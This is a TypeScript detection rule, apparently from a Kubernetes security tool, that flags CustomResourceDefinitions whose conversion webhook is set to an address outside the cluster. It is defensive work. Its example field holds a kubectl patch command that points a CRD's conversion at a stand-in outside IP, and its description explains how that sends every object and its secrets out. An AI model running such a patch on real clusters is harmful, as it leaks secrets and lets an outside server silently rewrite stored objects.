import { at, text } from '../../kubernetes/loose.ts';
import { writtenAt } from '../../kubernetes/patch.ts';
import { quote } from '../../text.ts';
import { callRule } from '../call-rule.ts';
import { type CallSignal, WRITES } from '../calls.ts';
import { shownDeed } from '../claim.ts';

/** The control plane converts some of its own kinds at an address of its own machine. */
const ON_CONTROL_PLANE = /^https:\/\/(?:localhost|127(?:\.\d{1,3}){3}|\[::1\])(?:[:/]|$)/i;

/** Somebody lets a server outside of the cluster read and rewrite the objects of a custom resource. */
export const conversionWebhookOutside = callRule({
  id: 'conversion-webhook-outside',
  title: 'Custom resource converted outside of the cluster',
  sees: 'A CustomResourceDefinition that is written so that an address outside of the cluster converts its objects. Conversion by a Service of the cluster, as operators use, does not count.',
  why: 'The API server sends every object of that kind, with the secrets in it, to the converter, and stores and serves what it answers. No admission sees the change.',
  technique: [{ id: 'T1557', name: 'Adversary-in-the-Middle' }],
  severity: 'high',
  confidence: 0.7,
  family: 'rbac',
  falsePositives: ['Operators whose server runs outside of the cluster'],
  calls: [{ resources: ['apiextensions.k8s.io/customresourcedefinitions'], verbs: WRITES }],
  example:
    'kubectl patch crd orders.example.com -p \'{"spec": {"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://203.0.113.7/"}}}}}\' --type=merge',
  match: (signal) => {
    const url = addressIn(signal);
    if (url === undefined || ON_CONTROL_PLANE.test(url)) return undefined;
    return {
      because: [
        shownDeed(signal, 'wrote', 'write'),
        `its objects are sent to ${quote(url, 253)}, outside of the cluster`,
      ],
    };
  },
});

/** The address of the converter that a call writes; the second place is that of the older version of the API. */
const addressIn = (signal: CallSignal): string | undefined => {
  const conversion = writtenAt(signal, 'spec', 'conversion');
  return text(at(conversion, 'webhook', 'clientConfig', 'url')) ?? text(at(conversion, 'webhookClientConfig', 'url'));
};
